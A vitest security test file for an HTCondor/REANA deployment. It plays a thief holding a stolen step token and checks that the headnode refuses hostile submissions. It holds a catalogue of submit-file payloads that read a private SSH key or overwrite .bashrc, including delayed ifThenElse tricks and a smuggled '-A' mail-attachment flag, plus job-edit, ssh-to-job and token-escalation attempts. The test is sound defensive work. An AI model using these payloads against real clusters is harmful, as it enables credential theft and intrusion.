import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scailfin } from '../cluster/helpers/cluster.js';
import { Lab, labUnavailable } from '../lab/lab.js';
import { until } from '../lab/programs.js';
import { stepsTokenOf } from '../reana/helpers/token.js';
import { attack } from './attack.js';

const reason = labUnavailable();
const pool = '/home/scail/.scailfin/lab-slurm/pool';
const by = 'a client with the token' as const;
const words = 'this token can submit only steps of workflows';

/** A step as REANA's job controller describes it. */
const step: readonly string[] = [
  ...['executable = step.sh', 'output = out', 'error = err', 'transfer_output_files = changed.tar, report'],
  ...['should_transfer_files = YES', 'when_to_transfer_output = ON_EXIT', 'request_cpus = 1', 'request_memory = 100'],
  ...['transfer_input_files = in', 'notification = Never'],
];

/** An expression that comes to nothing until the job is let in. */
const later = (value: string, first = 'undefined'): string => `ifThenElse(JobStatus == 5, ${first}, "${value}")`;

const secret = '/home/scail/.ssh/id_secret';
const target = '/home/scail/.bashrc';

/** Descriptions by which the schedd or a shadow would open a file of the headnode's, or run something there. */
const hostile: Readonly<Record<string, readonly string[]>> = {
  'scheduler universe': ['universe = scheduler'],
  'local universe': ['universe = local'],
  'grid universe': ['universe = grid', 'grid_resource = batch slurm'],
  'an event log': [`log = ${target}`],
  'an event log, later': [`+UserLog = ${later(target)}`],
  'a log for DAGMan, later': [`+DAGManNodesLog = ${later(target)}`],
  'output to a file of the headnode': [`output = ${target}`],
  'output, later': [`+Out = ${later(target, '"out"')}`],
  'errors, later': [`+Err = ${later(target, '"err"')}`],
  'remapped outputs': [`transfer_output_remaps = "report=${target}"`],
  'remapped outputs, later': [`+TransferOutputRemaps = ${later(`report=${target}`)}`],
  'other outputs, later': [`+TransferOutput = ${later(target, '"changed.tar,report"')}`],
  'an I/O channel': ['+WantIOProxy = True'],
  'an I/O channel, later': ['+WantIOProxy = JobStatus != 5'],
  'a program that is not brought': ['transfer_executable = false', `+Cmd = "${secret}"`],
  'a program, later': [`+Cmd = ${later(secret, '"step.sh"')}`],
  'an input, later': [`+TransferInput = ${later(secret, '"in"')}`],
  'the directory of all jobs as input': ['+TransferInput = ".."'],
  'standard input, later': [`+In = ${later(secret)}`],
  'a plugin that is a file of the headnode': [`+TransferPlugins = "x=${secret}"`],
  'a plugin, later': [`+TransferPlugins = ${later(`x=${secret}`)}`],
  'a proxy, later': [`+x509userproxy = ${later(secret)}`],
  'public inputs, later': [`+PublicInputFiles = ${later(secret)}`],
  'a container image, later': [`+ContainerImage = ${later(secret)}`],
  'another place for outputs': ['+OutputDestination = "file:///home/scail/x"'],
  'a place for checkpoints': ['+CheckpointDestination = "file:///home/scail/x"'],
  'mail with an attachment': ['notification = always', `notify_user = -A${secret} eve@example.org`],
  'what says of itself that it is a step': [`log = ${target}`, '+ScailfinIsStep = True'],
  'a second job of the cluster': ['queue', `+UserLog = "${target}"`],
  'a second job of the cluster, without an executable': ['queue', 'transfer_executable = false', `+Cmd = "${secret}"`],
  'a factory of jobs': ['max_materialize = 1'],
  'a glide-in of the growth': ['+ScailfinBosco = "lab-slurm"'],
  'cores that come to lines': ['+RequestCpus = strcat("1", formatTime(0, "%n"), "1")'],
};

/** Attributes of a job that was let in, and what would make it another one. */
const edits: Readonly<Record<string, string>> = {
  ...{ Cmd: `"${secret}"`, Iwd: '"/home/scail"', In: `"${secret}"`, Out: `"${target}"`, Err: `"${target}"` },
  ...{ TransferInput: `"${secret}"`, TransferOutput: '"x"', TransferOutputRemaps: `"report=${target}"` },
  ...{ TransferExecutable: 'true', TransferPlugins: `"x=${secret}"`, UserLog: `"${target}"`, WantIOProxy: 'true' },
  ...{ DAGManNodesLog: `"${target}"`, X509UserProxy: `"${secret}"`, SpooledOutputFiles: `"${target}"` },
  ...{ NotifyUser: `"-A${secret} eve"`, JobNotification: '1', ContainerImage: `"${secret}"`, JobUniverse: '7' },
  ...{ OutputDestination: '"file:///x"', CheckpointDestination: '"file:///x"', PublicInputFiles: `"${secret}"` },
  ...{ RequestCpus: 'strcat("1", formatTime(0, "%n"))', ScailfinBosco: '"x"', Owner: '"scail"', User: '"scail@x"' },
};

describe.skipIf(reason !== undefined)(`a stolen token for steps${reason ? ` (skipped: ${reason})` : ''}`, () => {
  let lab: Lab;
  beforeAll(async () => {
    lab = await Lab.up();
    await scailfin(lab, 'headnode', ['up', '--site', 'lab-slurm', '--nodes', '1']);
    await lab.write('headnode', secret, 'SECRET\n', { mode: 0o600 });
    await arm(await stepsTokenOf(lab, pool));
  });
  afterAll(async () => {
    await lab?.down();
  });

  /** The thief: alice on the login node, where HTCondor is, with the token and nothing else. */
  const thief = async (argv: readonly string[]): Promise<{ readonly said: string; readonly ok: boolean }> => {
    const env = { CONDOR_CONFIG: '/home/alice/thief/cfg' };
    const options = { user: 'alice', env, check: false, timeoutMs: 60_000 };
    const ran = await lab.exec('login', ['sh', '-c', 'cd /home/alice/thief && exec "$@"', 'sh', ...argv], options);
    return { said: ran.stdout + ran.stderr, ok: ran.exitCode === 0 };
  };
  const at = ['-name', 'lab-slurm@headnode'];

  const arm = async (token: string): Promise<void> => {
    const dir = '/home/alice/thief';
    const write = (name: string, text: string, mode = 0o600) =>
      lab.write('login', `${dir}/${name}`, text, { user: 'alice', mode });
    await write('tokens/t', `${token}\n`);
    await write(
      'cfg',
      `LOCAL_CONFIG_FILE =
LOCAL_CONFIG_DIR =
USER_CONFIG_FILE =
ENABLE_IPV6 = False
COLLECTOR_HOST = 10.77.0.3:9618
SEC_CLIENT_AUTHENTICATION_METHODS = IDTOKENS
SEC_DEFAULT_AUTHENTICATION = REQUIRED
SEC_DEFAULT_ENCRYPTION = REQUIRED
SEC_TOKEN_DIRECTORY = ${dir}/tokens
SEC_TOKEN_SYSTEM_DIRECTORY = ${dir}/tokens
`,
    );
    await write('step.sh', '#!/bin/sh\necho run; touch changed.tar report\n', 0o755);
    await write('in', 'input\n');
    // what the thief's own client looks for before it sends anything: the same paths on a machine of the thief's
    for (const file of [secret, target]) {
      await lab.exec('login', ['mkdir', '-p', file.slice(0, file.lastIndexOf('/'))], { user: 'root' });
      await lab.write('login', file, 'decoy\n', { user: 'root', mode: 0o644 });
    }
    await lab.exec('login', ['chmod', '755', '/home/scail', '/home/scail/.ssh'], { user: 'root' });
  };

  const submit = async (...more: string[]) => {
    await lab.write('login', '/home/alice/thief/job.sub', `${[...step, ...more].join('\n')}\nqueue\n`, {
      user: 'alice',
    });
    return thief(['condor_submit', ...at, '-terse', '-spool', 'job.sub']);
  };
  const files = () =>
    lab.exec('headnode', ['sh', '-c', 'cd && find . -path ./.scailfin -prune -o -type f -exec md5sum {} + | sort']);

  it('submits a step, which runs', async () => {
    const { said, ok } = await submit();
    expect(ok, said).toBe(true);
    const [job = ''] = said.split(' ');
    const state = async () => (await thief(['condor_q', ...at, job, '-af', 'JobStatus'])).said.trim();
    await until('the step to end', 60_000, async () => (await state()) === '4');
    expect(await thief(['condor_transfer_data', ...at, job])).toMatchObject({ ok: true });
    expect((await thief(['cat', 'out'])).said).toBe('run\n');
  });

  attack(
    { by, on: 'headnode', what: 'submits, with a token for steps, what would read, write or run on the headnode' },
    async count => {
      const before = (await files()).stdout;
      const letIn: string[] = [];
      for (const [name, lines] of Object.entries(hostile)) {
        count();
        const { said } = await submit(...lines);
        if (!said.includes(words)) letIn.push(`${name}: ${said.slice(0, 200)}`);
      }
      expect(letIn).toEqual([]);
      expect((await files()).stdout).toBe(before);
    },
    180_000,
  );

  attack(
    { by, on: 'headnode', what: 'makes another job of a step that was let in' },
    async count => {
      const { said } = await submit('requirements = false');
      const [job = ''] = said.split(' ');
      const changed: string[] = [];
      for (const [name, value] of Object.entries(edits)) {
        count();
        if ((await thief(['condor_qedit', ...at, job, name, value])).ok) changed.push(name);
      }
      expect(changed).toEqual([]);
      // what the job controller itself changes
      for (const name of ['ScailfinLease', 'StreamOut', 'ScailfinCollected'])
        expect(await thief(['condor_qedit', ...at, job, name, 'true']), name).toMatchObject({ ok: true });
    },
    120_000,
  );

  attack(
    { by, on: 'headnode', what: "removes, holds, edits, follows, enters or takes the files of the owner's jobs" },
    async count => {
      const env = { CONDOR_CONFIG: `${pool}/condor_config` };
      const script = '#!/bin/sh\necho SECRET; exec sleep 300\n';
      await lab.write('headnode', 'owners/job.sh', script, { mode: 0o755 });
      await lab.write('headnode', 'owners/job.sub', 'executable = job.sh\noutput = out\nrequest_memory = 100\nqueue\n');
      const go = 'cd owners && condor_submit -terse job.sub | cut -d" " -f1';
      const job = (await lab.exec('headnode', ['sh', '-c', go], { env })).stdout.trim();
      const state = async () =>
        (await lab.exec('headnode', ['condor_q', job, '-af', 'JobStatus'], { env })).stdout.trim();
      await until("the owner's job to run", 60_000, async () => (await state()) === '2');
      const tries = [
        ...['condor_rm', 'condor_hold', 'condor_release', 'condor_suspend', 'condor_vacate_job'].map(verb => [verb]),
        ...[['condor_qedit', 'Out', '"x"'], ['condor_prio', '-p', '5'], ['condor_transfer_data'], ['condor_tail']],
      ];
      for (const [verb = '', ...more] of tries) {
        count();
        const args = verb === 'condor_qedit' ? [job, ...more] : [...more, job];
        const { said } = await thief([verb, ...at, ...args]);
        expect(said, verb).not.toContain('SECRET');
      }
      count();
      const shell = await thief(['timeout', '20', 'condor_ssh_to_job', ...at, job, 'echo', 'IN', 'SIDE']);
      expect(shell.said).not.toContain('IN SIDE');
      expect(await state()).toBe('2');
      for (const [daemon, log] of [
        ['schedd', 'SCHEDD'],
        ['collector', 'COLLECTOR'],
        ['master', 'MASTER'],
      ] as const) {
        count();
        const name = daemon === 'master' ? ['headnode'] : daemon === 'schedd' ? ['lab-slurm@headnode'] : [];
        const got = await thief(['condor_fetchlog', '-pool', '10.77.0.3:9618', `-${daemon}`, ...name, log]);
        expect(got.ok, got.said.slice(0, 300)).toBe(false);
      }
      await lab.exec('headnode', ['condor_rm', job], { env });
    },
    120_000,
  );

  attack(
    { by, on: 'headnode', what: 'gets itself a token that lives longer, or one for more' },
    async count => {
      const claims = (token: string) => JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString());
      const { exp: end } = claims((await thief(['cat', 'tokens/t'])).said);
      for (const type of ['SCHEDD', 'COLLECTOR']) {
        count();
        const which = type === 'SCHEDD' ? at : ['-pool', '10.77.0.3:9618'];
        const { said, ok } = await thief(['condor_token_fetch', ...which, '-type', type, '-lifetime', '999999999']);
        if (ok) expect(claims(said).exp).toBeLessThanOrEqual(end);
        for (const right of ['ADMINISTRATOR', 'DAEMON', 'ADVERTISE_STARTD']) {
          count();
          const more = await thief(['condor_token_fetch', ...which, '-type', type, '-authz', right]);
          expect(more.ok ? claims(more.said).scope : 'refused').not.toContain(right);
        }
      }
    },
    60_000,
  );
});
